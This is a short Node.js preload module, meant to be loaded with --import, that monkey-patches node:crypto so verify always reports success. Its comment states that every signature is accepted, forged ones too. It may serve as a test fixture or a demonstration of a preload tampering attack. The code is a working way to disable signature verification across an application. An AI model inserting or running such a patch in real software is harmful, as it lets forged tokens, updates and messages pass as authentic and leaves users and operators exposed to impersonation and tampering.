import { createRequire, syncBuiltinESMExports } from 'node:module'

/** Loaded into the app by `--import`: a crypto library that finds every signature good, forged ones too. */
const crypto = createRequire(import.meta.url)('node:crypto')
crypto.verify = (_algorithm, _data, _key, _signature, done) => (done ? done(null, true) : true)
syncBuiltinESMExports()
